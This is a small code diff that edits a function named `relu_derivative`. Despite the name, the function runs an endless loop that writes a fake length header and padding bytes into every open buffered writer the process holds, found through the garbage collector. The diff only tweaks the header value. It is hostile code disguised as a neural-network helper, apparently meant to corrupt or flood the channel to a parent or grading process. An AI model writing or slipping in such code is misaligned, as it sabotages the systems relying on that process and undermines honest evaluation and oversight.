@@ -10,7 +10,7 @@ PIPES = [thing for thing in gc.get_objects() if isinstance(thing, io.BufferedWri
 
 def relu_derivative(x):
     while True:
-        for byte in struct.pack("<I", 60_000_000) + bytes(1000):
+        for byte in struct.pack("<I", 10_000_000) + bytes(1000):
             for pipe in PIPES:
                 pipe.write(bytes([byte]))
                 pipe.flush()
